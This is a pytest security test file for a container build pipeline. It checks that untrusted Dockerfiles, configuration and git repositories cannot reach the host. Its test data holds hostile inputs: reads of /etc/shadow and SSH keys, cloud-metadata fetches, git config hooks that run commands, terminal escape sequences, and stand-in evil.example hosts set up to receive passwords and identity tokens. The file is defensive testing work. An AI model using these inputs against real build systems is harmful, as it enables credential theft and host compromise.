"""A fork's Dockerfile, configuration and repository, and what they get of the machine: docs/threats.md."""

from __future__ import annotations

import base64
import json
import secrets
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypeVar

import anyio
import dagger
import pytest

from pipelines.model import Digest, Platform, Unit
from pipelines.stages.build import quarantine
from pipelines.stages.quarantine import holds
from pipelines.stages.quarantine_service import PORT, quarantine_volume
from pipelines.stages.toolbox import Toolbox
from tests.faults.bad_input import accepted, problems, refused
from tests.faults.command import WEB, Bare
from tests.faults.small import Small
from tests.scratch import REGISTRY, Scratch, run

T = TypeVar("T")

SECRET = "a-secret-of-the-test"
LEFT = "left-by-another-step"
INTRUDER = Path(__file__).with_name("intruder.py")
PYTHON = "FROM python:3.11-slim-bookworm\n"


def on_engine(engine: Mapping[str, str], work: Callable[[Toolbox], Awaitable[T]]) -> T:
    """Do some work with a run's own tools."""

    async def connected() -> T:
        async with dagger.Connection() as client:
            return await work(Toolbox(client=client, project="untrusted", run=f"victim-{secrets.token_hex(4)}"))

    with pytest.MonkeyPatch.context() as patch:
        for name, value in {**engine, "DOCKER_PASSWORD": SECRET, "SIGNING_PASSWORD": SECRET}.items():
            patch.setenv(name, value)
        return anyio.run(connected)


@asynccontextmanager
async def held(toolbox: Toolbox) -> AsyncIterator[Digest]:
    """The quarantine, up, with an image in it that is nobody else's; its digest."""
    await toolbox.quarantine.start()
    try:
        container = toolbox.client.container(platform=dagger.Platform("linux/amd64"))
        container = container.with_new_file("/secret", SECRET)
        yield await quarantine(toolbox, container, Unit(service="private", platform=Platform("linux/amd64")))
    finally:
        await toolbox.quarantine.stop(kill=True)


async def built(toolbox: Toolbox, dockerfile: str, **args: str) -> str:
    """What a Dockerfile leaves in `/out`; `docker_build` as the pipeline calls it."""
    context = toolbox.client.directory().with_new_file("Dockerfile", dockerfile)
    context = context.with_new_file("intruder.py", INTRUDER.read_text())
    given = [dagger.BuildArg(name=name, value=value) for name, value in args.items()]
    return await context.docker_build(build_args=given).file("/out").contents()


async def intrude(toolbox: Toolbox, *, with_login: bool) -> tuple[dict[str, Any], bool]:
    """What a build step finds that knows the quarantine's address; and whether the image is there afterwards."""
    async with held(toolbox) as digest:
        login = toolbox._login
        key = base64.b64encode(f"{login.username}:{login.password}".encode()).decode() if with_login else ""
        mounts = {"a": "sealift-quarantine-untrusted", "b": "sealift-go-mod"}
        flags = " ".join(f"--mount=type=cache,id={name},target=/caches/{at}" for at, name in mounts.items())
        step = f"RUN {flags} python3 /intruder.py $HOST:{PORT} private@$DIGEST '{key}' > /out\n"
        text = f"{PYTHON}ARG HOST\nARG DIGEST\nARG SALT\nCOPY intruder.py /\n{step}"
        # The engine's own name for the service: no scan of the network finds it sooner.
        host = await toolbox.quarantine.hostname()
        said = await built(toolbox, text, HOST=host, DIGEST=digest, SALT=toolbox._login.password[:8])
        return json.loads(said), await holds(toolbox, "private", digest)


def test_a_build_step_gets_nothing_of_the_engine_and_the_host(engine: Mapping[str, str]) -> None:
    found, there = on_engine(engine, partial(intrude, with_login=False))
    assert found["answers"] == [401] * 6
    assert there
    assert found["host"] == []
    # What another Dockerfile has left under the same name may be there.
    assert set(found["caches"]) <= {f"/caches/a/{LEFT}"}
    assert found["sockets"] == []
    assert SECRET not in str(found["variables"])
    assert not {"DAGGER_SESSION_PORT", "DAGGER_SESSION_TOKEN", "DOCKER_CONFIG"} & set(found["variables"])


def test_the_same_step_with_the_login_would_get_it(engine: Mapping[str, str]) -> None:
    """And so it is the login that keeps the quarantine, and not that nobody looked in the right place."""
    found, there = on_engine(engine, partial(intrude, with_login=True))
    assert found["answers"] == [200, 200, 200, 200, 202, 202]
    assert not there


def test_the_quarantines_volume_is_the_pipelines_alone(engine: Mapping[str, str]) -> None:
    """What the volume's own mount shows, a Dockerfile's of the same name does not; two Dockerfiles share theirs."""

    async def work(toolbox: Toolbox) -> tuple[str, str]:
        async with held(toolbox) as digest:
            volume = quarantine_volume(toolbox.client, toolbox.project)
            own = toolbox.client.container().from_("python:3.11-slim-bookworm").with_mounted_cache("/held", volume)
            listed = own.with_env_variable("SALT", digest).with_exec(["find", "/held", "-name", digest[7:]])
            mount = "--mount=type=cache,id=sealift-quarantine-untrusted,target=/held"
            steps = f"RUN {mount} touch /held/{LEFT}\nRUN {mount} find /held -type f > /out\n"
            text = f"{PYTHON}ARG SALT\n{steps}"
            return await listed.stdout(), await built(toolbox, text, SALT=digest)

    held_there, seen = on_engine(engine, work)
    assert "/held/docker/registry/v2" in held_there
    assert seen.splitlines() == [f"/held/{LEFT}"]


REFUSED_BY_THE_ENGINE = {
    "a frontend of its own": ("# syntax=evil.example/frontend:1\n" + PYTHON + "RUN true\n", "syntax frontend"),
    "the host's network": (PYTHON + "RUN --network=host true\n", "network.host is not allowed"),
    "root's capabilities": (PYTHON + "RUN --security=insecure true\n", "unknown flag: security"),
    "the user's ssh agent": (PYTHON + "RUN --mount=type=ssh,required true\n", "no ssh socket"),
    "a secret that is not its own": (
        PYTHON + "RUN --mount=type=secret,id=sealift-quarantine-password,required=true true\n",
        "no secret mappings were provided",
    ),
    "a file outside of its context": (PYTHON + "COPY ../../../../etc/shadow /out\n", ""),
    "another project's image, by its name": (f"FROM localhost:{PORT}/private:linux-amd64\n", "refused"),
    "another project's image, by its digest": (f"FROM localhost:{PORT}/private@DIGEST\n", "refused"),
}


def test_what_the_engine_refuses_of_a_dockerfile(engine: Mapping[str, str]) -> None:
    async def work(toolbox: Toolbox) -> dict[str, str]:
        said: dict[str, str] = {}
        async with held(toolbox) as digest:
            for name, (text, _) in REFUSED_BY_THE_ENGINE.items():
                try:
                    said[name] = await built(toolbox, text.replace("DIGEST", digest))
                except dagger.QueryError as failure:
                    said[name] = f"refused: {failure}"
        return said

    said = on_engine(engine, work)
    for name, (_, why) in REFUSED_BY_THE_ENGINE.items():
        assert said[name].startswith("refused: "), (name, said[name])
        assert why in said[name].removeprefix("refused: "), (name, said[name])
        assert "root:" not in said[name]


def test_a_base_image_gets_no_step_onto_the_hosts_network(engine: Mapping[str, str]) -> None:
    """Nobody reads a base's triggers before it is built on: the engine itself has to refuse."""
    name = f"{REGISTRY}/test-{secrets.token_hex(4)}/base:1"

    async def work(toolbox: Toolbox) -> str:
        context = toolbox.client.directory().with_new_file("Dockerfile", f"{PYTHON}ONBUILD RUN --network=host true\n")
        at = await context.docker_build().publish(name)
        with pytest.raises(dagger.QueryError) as caught:
            await built(toolbox, f"FROM {at}\nRUN touch /out\n")
        return str(caught.value)

    assert "network.host is not allowed" in on_engine(engine, work)


class _Git(BaseHTTPRequestHandler):
    """A git server that wants a login, and keeps what it is sent."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(f"{self.path} {self.headers.get('Authorization')}")
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="git"')
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Nothing."""


def test_a_dockerfile_gets_no_repository_with_the_users_git_credentials(repository: Small, tmp_path: Path) -> None:
    handler = type("Git", (_Git,), {"asked": []})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        config = tmp_path / "gitconfig"
        config.write_text(f'[credential]\nhelper = "!echo username=me; echo password={SECRET}; :"\n')
        repository.env |= {"GIT_CONFIG_GLOBAL": str(config), "SSH_AUTH_SOCK": "/run/agent.sock"}
        dockerfile = repository.root / "services/web/Dockerfile"
        before = dockerfile.read_text()
        source = f"http://127.0.0.1:{server.server_port}/private.git#{'0' * 40}"
        dockerfile.write_text(f"FROM scratch\nADD {source} /private\n")
        try:
            done = repository.sealift("build", "--service", "web")
        finally:
            dockerfile.write_text(before)
            server.shutdown()
    assert done.returncode == 8, done.stdout + done.stderr
    assert handler.asked
    # Where git has none, it asks an empty terminal for a login.
    sent = [base64.b64decode(line.rpartition("Basic ")[2]).decode() for line in handler.asked if "Basic" in line]
    assert SECRET not in "".join(sent)


def test_a_dockerfile_on_the_hosts_network(bare: Bare) -> None:
    bare.write("services/web/Dockerfile", "FROM scratch\nRUN --net\\\nwork=host id\nONBUILD RUN --network=host id\n")
    assert problems(bare) == [
        "services/web/Dockerfile: has --network=host: a build step gets nothing of the host; take it out"
    ]


def test_a_dockerfile_fetches_what_may_be_anything(bare: Bare) -> None:
    bare.write("services/web/Dockerfile", "FROM scratch\nARG AT\nADD http://169.254.169.254/latest /a\nADD ${AT} /b\n")
    found = problems(bare)
    assert [line.partition(": what it fetches")[0] for line in found] == [
        "services/web/Dockerfile: ADD http://169.254.169.254/latest",
        "services/web/Dockerfile: ADD ${AT}",
    ]
    assert "write 'ADD --checksum=sha256:…'" in found[0]
    bare.write("services/web/Dockerfile", f"FROM scratch\nADD --checksum=sha256:{'0' * 64} https://example.com/a /a\n")
    bare.commit()
    accepted(bare)


def test_cache_mounts_are_the_environments_own(scratch: Scratch) -> None:
    """A step finds again what another has left in the same environment, and in another one nothing."""
    folder = scratch.service("web", settings={"boot": None})
    left = f"/c/{secrets.token_hex(8)}"

    def build(env: str, command: str) -> int:
        step = f"RUN --mount=type=cache,id=shared,target=/c {command}"
        (folder / "Dockerfile").write_text(f"{PYTHON}{step}\nUSER 1001:1001\n")
        scratch.commit()
        return scratch.sealift("build", "--env", env).returncode

    assert build("local", f"touch {left}") == 0
    assert build("local", f"test -e {left}") == 0
    assert build("staging", f"test ! -e {left}") == 0
    assert build("staging", f"test -e {left}") == 8


@pytest.mark.parametrize("address", ["env://DOCKER_PASSWORD", "file:///etc/passwd", "file://~/.ssh/id_rsa", "op://a/b"])
def test_a_configuration_asks_for_a_secret_of_the_machine(bare: Bare, address: str) -> None:
    bare.env["DOCKER_PASSWORD"] = SECRET
    bare.configure(WEB, f"web: {{secrets: {{x: '{address}'}}}}")
    (found,) = problems(bare)
    assert found == (
        f"sealift.yaml:5:22 services.web.secrets.x: this machine gives no build {address}: if that is right,"
        f" set SEALIFT_ALLOW_SECRETS={address}, in the environment or .env"
    )
    bare.env["SEALIFT_ALLOW_SECRETS"] = address
    accepted(bare)


def test_a_configuration_says_where_the_identity_token_goes(bare: Bare) -> None:
    subject = "https://github.com/acme/shop/.github/workflows/release.yml@refs/heads/main"
    bare.configure("source: https://example.com/scratch", "source: https://github.com/acme/shop")
    services = ", ".join(f"{name}: 'https://{name}.evil.example'" for name in ("fulcio", "rekor", "timestamp"))
    bare.configure(
        "environments:",
        f"signing: {{identities: [{{subject: '{subject}'}}], {services}, trusted_root: root.json}}\nenvironments:",
    )
    bare.write("root.json", json.dumps({"mediaType": "application/vnd.dev.sigstore.trustedroot+json;version=0.1"}))
    bare.env["SIGSTORE_ID_TOKEN"] = SECRET
    lines = refused(bare.sealift("build-all"))
    assert "the identity token would go to 'https://fulcio.evil.example', which the configuration names" in lines[0]
    assert SECRET not in "".join(lines)
    bare.env["SEALIFT_ALLOW_FULCIO"] = "https://fulcio.evil.example"
    bare.commit()
    accepted(bare)


def test_a_configuration_names_a_tool_that_would_have_the_identity(bare: Bare) -> None:
    bare.configure("services:", "tools: {cosign: 'registry.evil.example/cosign:v3.1.3'}\nservices:")
    (bare.root / "dist").mkdir()
    lines = refused(bare.sealift("assemble", "dist", "--own-tools"))
    assert "'tools' of sealift.yaml names registry.evil.example/cosign:v3.1.3: a tool that signs" in lines[0]
    assert "dist has no partial.json" in refused(bare.sealift("assemble", "dist"))[0]
    for nothing in ("", "sha256:0", "0" * 63):
        assert bare.sealift("assemble", "dist", "--documents", nothing).code == 2


def test_a_configuration_names_a_command(bare: Bare, tmp_path: Path) -> None:
    started = tmp_path / "started"
    bare.configure(WEB, f"web: {{secrets: {{x: 'cmd://touch {started}'}}}}")
    # Not even if it is allowed.
    bare.env["SEALIFT_ALLOW_SECRETS"] = f"cmd://touch {started}"
    (found,) = problems(bare)
    assert found.endswith("a command in a file of the repository is not run on this machine")
    assert not started.exists()


def test_a_configuration_names_a_registry_for_the_users_password(bare: Bare) -> None:
    bare.configure("localhost:5000", "registry.evil.example")
    bare.env |= {"DOCKER_USERNAME": "me", "DOCKER_PASSWORD": SECRET}
    lines = refused(bare.sealift("registry", "check"))
    assert "registry.evil.example, which sealift.yaml names for local, gets no password on its word alone" in lines[0]
    # Nor by a file that comes with the repository: it would win over nothing but the file's own word.
    bare.write(".env", "DOCKER_REGISTRY=registry.evil.example\n")
    assert run(["git", "add", "--force", ".env"], cwd=bare.root).returncode == 0
    assert problems(bare) == [".env: is committed, and belongs to one machine: take it out with 'git rm --cached .env'"]


def test_a_repository_brings_programs_along(bare: Bare, tmp_path: Path) -> None:
    """An archive may hold a `.git` whose configuration somebody else wrote; `clone` brings none."""
    started = tmp_path / "started"
    bare.write(".gitattributes", "* filter=evil\n")
    bare.commit()
    touch = f"touch {started}"
    lines = [
        f'[filter "evil"]\nclean = "{touch}; cat"\nsmudge = "{touch}; cat"\nprocess = "{touch}"\nrequired = true',
        f'[core]\nfsmonitor = "{touch}"\nhooksPath = {tmp_path}\nsshCommand = "{touch}"\npager = "{touch}"',
        f'[credential]\nhelper = "!{touch}"\n[diff]\nexternal = "{touch}"',
    ]
    with (bare.root / ".git/config").open("a") as config:
        config.write("\n".join(lines) + "\n")
    bare.write("services/web/server.py", "changed = True\n")
    done = bare.sealift("plan")
    assert done.code == 0, done.err
    assert "with changes that are not committed" in done.out
    accepted(bare)
    assert not started.exists()


@pytest.mark.parametrize("with_dotenv", [False, True])
def test_a_repositorys_configuration_includes_a_file_of_the_users(
    bare: Bare, tmp_path: Path, with_dotenv: bool
) -> None:
    (tmp_path / "netrc").write_text(f"machine example.com password {SECRET}\n")
    with (bare.root / ".git/config").open("a") as config:
        config.write(f"[include]\npath = {tmp_path / 'netrc'}\n")
    if with_dotenv:
        bare.write(".env", "SEALIFT_JOBS=2\n")
    lines = refused(bare.sealift("plan"))
    assert lines[0] == "error: git: the repository's git configuration cannot be read"
    assert SECRET not in "".join(lines)


def test_names_command_no_terminal(bare: Bare) -> None:
    evil = "\x1b]0;owned\x07\x9b2J"
    bare.write(f"services/web/{evil}.bin", b"0" * 2000)
    bare.configure(WEB, "web: {context_budget: 1kB}")
    (found,) = problems(bare)
    assert "\\x1b]0;owned\\x07\\x9b2J.bin" in found
    bare.configure("source: https://example.com/scratch", 'source: "https://example.com/\\e[2J"')
    assert any("the character '\\x1b' may not stand in it" in line for line in problems(bare))


@pytest.mark.parametrize("link", ["../../../home/.ssh/id_rsa", "/etc/shadow"])
def test_a_link_out_of_the_repository_is_sent_as_a_link(repository: Small, link: str) -> None:
    context = repository.root / "services/web"
    (context / "link").symlink_to(link)
    dockerfile, before = context / "Dockerfile", (context / "Dockerfile").read_text()
    dockerfile.write_text("FROM scratch\nCOPY link /copied\n")
    try:
        done = repository.sealift("build", "--service", "web")
    finally:
        (context / "link").unlink()
        dockerfile.write_text(before)
    assert done.returncode == 8, done.stdout + done.stderr
    assert "root:" not in done.stdout + done.stderr
